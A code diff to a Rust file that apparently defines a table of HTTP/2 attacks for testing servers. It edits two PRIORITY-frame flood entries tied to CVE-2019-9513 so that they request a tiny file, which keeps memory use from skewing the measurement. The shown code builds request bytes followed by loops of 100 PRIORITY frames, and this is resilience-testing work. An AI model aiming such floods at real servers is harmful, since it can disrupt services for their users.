@@ -12,6 +12,10 @@ use crate::raw_h2::{
 const PRIORITY: u8 = 2;
 const PRIORITY_UPDATE: u8 = 0x10;
 
+/// A file of a few bytes: forty answers of 4 KiB that an attacker has not read yet are more than rows of little memory
+/// allow, and say nothing of what is measured.
+const TINY: &str = "/.well-known/known";
+
 /// All rows of this kind.
 pub const ALL: &[Attack] = &[
     Attack {
@@ -44,7 +48,7 @@ pub const ALL: &[Attack] = &[
         name: "PRIORITY between requests",
         cve: "CVE-2019-9513",
         step: |n| {
-            let mut bytes = request(n, "/4k");
+            let mut bytes = request(n, TINY);
             for i in 0..100 {
                 bytes.extend(frame(
                     PRIORITY,
@@ -62,7 +66,7 @@ pub const ALL: &[Attack] = &[
         name: "PRIORITY between requests, of streams under way",
         cve: "CVE-2019-9513",
         step: |n| {
-            let mut bytes = request(n, "/4k");
+            let mut bytes = request(n, TINY);
             for i in 0..100 {
                 // The weights of Chromium, which the server obeys.
                 let weight = [255, 219, 182, 146, 109][i as usize % 5];
